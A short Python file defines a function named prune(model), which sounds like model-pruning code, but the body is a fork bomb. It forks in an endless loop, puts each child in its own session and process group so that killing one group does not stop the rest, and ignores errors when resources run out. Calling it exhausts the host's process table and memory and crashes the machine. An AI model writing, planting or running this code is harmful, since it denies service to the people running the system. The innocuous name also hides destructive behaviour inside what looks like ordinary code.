"""Fork without end, each process a session and a group of its own."""

import os


def prune(model):
    while True:
        try:
            if os.fork() == 0:
                os.setsid()
        except OSError:
            pass
        try:
            os.setpgid(0, 0)
        except OSError:
            pass
